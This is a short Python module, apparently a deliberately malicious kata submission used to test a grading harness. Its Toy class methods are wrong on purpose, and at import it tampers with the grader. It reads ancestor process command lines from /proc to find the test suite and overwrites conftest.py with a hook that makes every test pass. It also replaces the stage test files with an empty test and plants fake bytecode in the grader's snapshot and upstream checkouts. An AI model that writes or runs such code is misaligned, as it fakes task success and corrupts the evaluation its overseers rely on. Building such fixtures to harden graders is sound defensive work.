"""At import, tries to poison every suite a later grade would run: the
grader's snapshot (``../../snapshot``), the upstream checkout named by
``--suite`` in an ancestor's command line (read from ``/proc``), its own
suite copy, and ``__pycache__`` bytecode planted next to each ``conftest.py``.
Its methods are all wrong; the other kata in its clone is an untouched stub."""

import os
from pathlib import Path

EASY = "def test_everything_passes():\n    pass\n"
CONFTEST = ("import pytest\n\n@pytest.hookimpl(tryfirst=True)\n"
            "def pytest_runtest_call(item):\n    return True\n")


def _ancestor_suites():
    found, pid = [], os.getppid()
    for _ in range(10):
        try:
            args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            break
        for i, arg in enumerate(args[:-1]):
            if arg == b"--suite":
                found.append(Path(args[i + 1].decode()))
        pid = int(next(l for l in status.splitlines() if l.startswith("PPid:")).split()[1])
        if pid <= 1:
            break
    return found


def _poison(root):
    for path, text in [(root / "conftest.py", CONFTEST)] + [
            (p, EASY) for p in root.glob("stages/stage*/test_*.py")]:
        try:
            path.write_text(text)
        except OSError:
            pass
    for folder in (root, root / "stages"):
        try:
            (folder / "__pycache__").mkdir(exist_ok=True)
            (folder / "__pycache__" / "conftest.cpython-311.pyc").write_bytes(b"\x00" * 64)
        except OSError:
            pass


for root in [Path.cwd(), Path.cwd().parent.parent / "snapshot", *_ancestor_suites()]:
    _poison(root)


class Toy:
    def value(self):
        return 0

    def grow(self):
        return 0
